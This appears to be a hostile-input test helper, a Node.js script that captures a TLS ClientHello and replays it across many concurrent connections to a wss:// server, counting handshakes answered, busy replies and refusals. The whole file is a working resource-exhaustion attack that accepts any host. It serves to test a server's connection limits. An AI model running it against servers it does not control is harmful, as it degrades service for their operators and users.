#!/usr/bin/env node
/**
 * The ClientHello-replay attack on a wss:// server: captures one real TLS ClientHello (Node's
 * own, sent to a throwaway local listener), then keeps CONCURRENCY connections busy for SECONDS,
 * each one sending that ClientHello on a new TCP connection and closing as soon as the server
 * answers or closes. Prints one JSON line:
 *   {"attempts": N, "answered": N, "busy": N, "refused": N}
 * answered: the server sent its TLS flight (a key exchange and a signature spent on the replay);
 * busy: it answered something else (an HTTP 503 for a peer over its connection limits);
 * refused: it closed without a byte.
 *
 *   node scripts/hostile/tls_replay.mjs PORT [SECONDS=3] [CONCURRENCY=128] [HOST=127.0.0.1]
 *
 * Used by tests/hostile/tls-replay.test.ts; run it by hand against any wss:// server.
 */
import { connect as tcpConnect, createServer } from 'node:net';
import { connect as tlsConnect } from 'node:tls';

const port = Number(process.argv[2]);
const seconds = Number(process.argv[3] ?? 3);
const concurrency = Number(process.argv[4] ?? 128);
const host = process.argv[5] ?? '127.0.0.1';
if (!Number.isInteger(port) || port <= 0 || !(seconds > 0) || !(concurrency > 0)) {
  console.error('usage: tls_replay.mjs PORT [SECONDS] [CONCURRENCY] [HOST]');
  process.exit(2);
}

/** One ClientHello, as Node's TLS client sends it to a server named localhost. */
function captureClientHello() {
  return new Promise((resolve, reject) => {
    const listener = createServer((sock) =>
      sock.once('data', (hello) => {
        resolve(hello);
        sock.destroy();
        listener.close();
      }),
    );
    listener.listen(0, '127.0.0.1', () => {
      const t = tlsConnect({ port: listener.address().port, host: '127.0.0.1', servername: 'localhost', rejectUnauthorized: false });
      t.on('error', () => {});
    });
    listener.on('error', reject);
  });
}

const hello = await captureClientHello();
const stats = { attempts: 0, answered: 0, busy: 0, refused: 0 };
let stopping = false;

function attack() {
  if (stopping) return;
  stats.attempts++;
  const sock = tcpConnect(port, host, () => sock.write(hello));
  let settled = false;
  const settle = (first) => {
    if (settled) return;
    settled = true;
    if (first === undefined) stats.refused++;
    else if (first === 0x16) stats.answered++; /* a TLS handshake record */
    else stats.busy++;
    sock.destroy();
    setImmediate(attack);
  };
  sock.on('data', (d) => settle(d[0]));
  sock.on('error', () => settle(undefined));
  sock.on('close', () => settle(undefined));
}

for (let i = 0; i < concurrency; i++) attack();
setTimeout(() => {
  stopping = true;
  console.log(JSON.stringify(stats));
  process.exit(0);
}, seconds * 1000);
